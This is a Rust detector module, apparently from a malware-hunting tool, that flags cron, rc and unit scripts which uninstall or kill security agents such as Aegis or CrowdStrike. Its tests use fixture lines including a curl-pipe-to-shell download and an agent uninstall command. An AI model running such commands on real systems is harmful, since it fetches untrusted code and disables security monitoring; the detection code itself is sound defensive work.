//! Security agents removed or stopped by persisted scripts (`MT-EVA-031`, T1562.001): cron, unit, rc
//! and start-up lines that uninstall or kill Aliyun Aegis/CloudMonitor, Tencent YunJing, CrowdStrike,
//! Trend Micro Deep Security and the like (`agent_tamper` indicators), or that switch SELinux, the
//! firewall or the NMI watchdog off.
//!
//! Admins run the same uninstall scripts, so a line that only removes an agent is low; in a file that
//! also carries a persistence signal (downloads into a shell, runs from temp, ...) it is medium.
//! Firewall rules against agents are `MT-EVA-030` in `firewall`.

use minetrace_schemas::findings::{Finding, Role, Severity};

use super::common::{self, quote_line};
use crate::detect::finding::{file_subject, finding, persistence_subject, FindingExt};
use crate::detect::rules;
use crate::detect::Context;
use crate::indicators::Kind;
use crate::parse::numbered_lines;

pub fn detect(ctx: &Context) -> Vec<Finding> {
    let mut out = Vec::new();
    for (file, bytes, _) in ctx.model.persistence_files(|_| true) {
        let code = || numbered_lines(bytes).filter(|(_, raw)| !raw.trim_ascii().starts_with(b"#"));
        let mut hits = Vec::new();
        for (n, raw) in code() {
            let lossy = String::from_utf8_lossy(raw);
            if let Some(v) = ctx.iocs.find_in(Kind::AgentTamper, &lossy) {
                if hits.len() < 20 {
                    hits.push((n, raw, v.to_owned()));
                }
            }
        }
        if hits.is_empty() {
            continue;
        }
        // Only a file that tampers with an agent has its lines scored (every persistence line of the
        // bundle was scored here before, for files this detector then skipped).
        let suspicious = code().any(|(_, raw)| common::score_shell(raw, ctx.iocs).0.points > 0);
        let sev = if suspicious {
            Severity::Medium
        } else {
            Severity::Low
        };
        let mut f = finding(&rules::EVA_031, sev).subject_as(file_subject(file), Role::Context);
        for (n, raw, v) in &hits {
            f = f
                .subject(persistence_subject(&file.path, *n))
                .evidence(format!(
                    "{} (matches {v:?})",
                    quote_line(&file.path, *n, raw)
                ));
        }
        if suspicious {
            f = f.evidence("the same file also runs suspicious commands");
        } else {
            f = f.evidence(
                "admins run the same uninstallers; nothing else in the file is suspicious",
            );
        }
        out.push(f);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::indicators::Indicators;
    use crate::model::fixture;

    fn found(files: Vec<(&[u8], &[u8])>) -> Vec<Finding> {
        let model = fixture::model(
            files
                .into_iter()
                .map(|(path, text)| fixture::file(path, Some(text)))
                .collect(),
            vec![],
        );
        let iocs = Indicators::builtin();
        detect(&Context {
            model: &model,
            iocs: &iocs,
        })
    }

    #[test]
    fn an_uninstaller_is_low_alone_and_medium_beside_suspicious_lines() {
        let uninstall: &[u8] = b"#!/bin/sh\n/usr/local/aegis/uninstall.sh\n";
        let alone = found(vec![(b"/etc/rc.local", uninstall)]);
        assert_eq!(alone.len(), 1, "{alone:?}");
        assert_eq!(alone[0].severity, Severity::Low);

        // The suspicious line may come before or after the tamper line; in a comment it does not count.
        let kit: &[u8] =
            b"#!/bin/sh\ncurl -fsSL http://127.8.8.8/x.sh | sh\n/usr/local/aegis/uninstall.sh\n";
        let kit_after: &[u8] =
            b"#!/bin/sh\n/usr/local/aegis/uninstall.sh\ncurl -fsSL http://127.8.8.8/x.sh | sh\n";
        let commented: &[u8] =
            b"#!/bin/sh\n/usr/local/aegis/uninstall.sh\n# curl -fsSL http://127.8.8.8/x.sh | sh\n";
        for (text, sev) in [
            (kit, Severity::Medium),
            (kit_after, Severity::Medium),
            (commented, Severity::Low),
        ] {
            let f = found(vec![(b"/etc/rc.local", text)]);
            assert_eq!(f.len(), 1, "{f:?}");
            assert_eq!(f[0].severity, sev, "{}", String::from_utf8_lossy(text));
        }

        // A file that tampers with no agent is not reported, however suspicious its lines.
        let other: &[u8] = b"#!/bin/sh\ncurl -fsSL http://127.8.8.8/x.sh | sh\n";
        assert!(found(vec![(b"/etc/rc.local", other)]).is_empty());
    }
}
